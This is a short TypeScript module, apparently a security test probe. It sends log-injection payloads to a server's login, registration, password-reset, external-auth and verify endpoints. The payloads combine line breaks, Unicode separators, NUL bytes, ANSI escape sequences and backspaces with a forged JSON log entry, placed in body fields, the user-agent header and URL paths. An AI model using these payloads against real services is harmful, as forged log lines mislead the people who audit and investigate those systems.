const forged = '{"level":"error","msg":"forged"}'
/** What breaks a line, ends a text or moves the cursor where a log is read carelessly. */
const breaks = [
  '\n',
  '\r\n',
  '\u2028',
  '\u0085',
  '\u0000',
  '\u001b[2J\u001b[1;1H',
  '"}\n',
  '\\n',
  '\u0008\u0008',
]

/** Writes lines of its own wherever a stranger's text may reach the log. */
export async function forge({ url }: { url: string }): Promise<void> {
  const send = (path: string, body: object, userAgent = 'x') =>
    fetch(url + path, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'user-agent': userAgent },
      body: JSON.stringify(body),
    })
  for (const sign of breaks) {
    const text = `x${sign}${forged}`
    await send('/api/v1/auth/login', { login: text, password: text })
    await send('/api/v1/auth/register', { email: text, username: text, password: text })
    await send('/api/v1/auth/forgot', { email: `x@people.test${sign}${forged}` })
    await send(`/api/v1/auth/external/${encodeURIComponent(text.replaceAll('\u0000', ''))}`, {})
    await send('/api/v1/auth/verify', { [text]: text }, `x" ${forged}`)
    await fetch(
      `${url}/api/v1/${encodeURIComponent(text.replaceAll('\u0000', ''))}?${encodeURIComponent(text)}`,
    )
  }
}
